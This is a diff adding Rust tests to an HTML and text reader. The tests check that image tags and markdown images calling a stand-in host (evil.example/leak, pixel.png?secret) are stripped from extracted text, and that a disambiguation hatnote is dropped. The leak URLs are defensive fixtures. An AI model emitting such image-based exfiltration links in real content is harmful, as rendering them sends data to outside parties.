@@ -54,6 +54,37 @@ fn an_article_is_freed_of_its_clutter() {
 }
 
 #[test]
+fn nothing_of_a_page_acts_where_it_is_shown() {
+    let infobox = "<table><tbody><tr><th>Born</th><td><img src=\"http://evil.example/leak?d=1\" \
+        width=\"20\" alt=\"a portrait\">1815</td></tr><tr><th>Died</th><td>1852</td></tr></tbody>\
+        </table><p>Fish<sup>[1]</sup> <img src=\"http://evil.example/pixel.png?secret\" alt=\"pic\"></p>\
+        <details><summary>More</summary>hidden words</details>";
+    let html = article().replace("<h2>How they count</h2>", infobox);
+    let text = read_html(&html, "https://valley.example/news/salmon").unwrap().text;
+    assert!(!text.contains("evil.example") && !text.contains('<'), "{text}");
+    for said in ["| Born | a portrait1815 |", "Fish[1] pic", "hidden words"] {
+        assert!(text.contains(said), "{said} is gone from {text}");
+    }
+    let plain = "A plain text with ![a pixel](http://evil.example/p.png) and <b>bold</b> words.";
+    let text = read_text(plain).unwrap().text;
+    assert!(!text.contains("evil.example") && !text.contains('<'), "{text}");
+}
+
+#[test]
+fn a_hint_at_other_pages_is_not_what_a_page_is_about() {
+    let html = article()
+        .replace("<meta name=\"description\" content=\"How a valley counts its fish\">", "")
+        .replace(
+            "<p class=\"byline\">By Ada Weir</p>",
+            "<div class=\"hatnote\" role=\"note\">For \
+            other uses, see Salmon (disambiguation).</div>",
+        );
+    let page = read_html(&html, "https://valley.example/news/salmon").unwrap();
+    assert!(!page.text.contains("other uses"), "{}", page.text);
+    assert!(page.description.unwrap().contains("salmon come back"));
+}
+
+#[test]
 fn what_a_page_says_of_itself_and_how_long_it_is() {
     let html = article().replace(
         "<meta name=\"author\"",
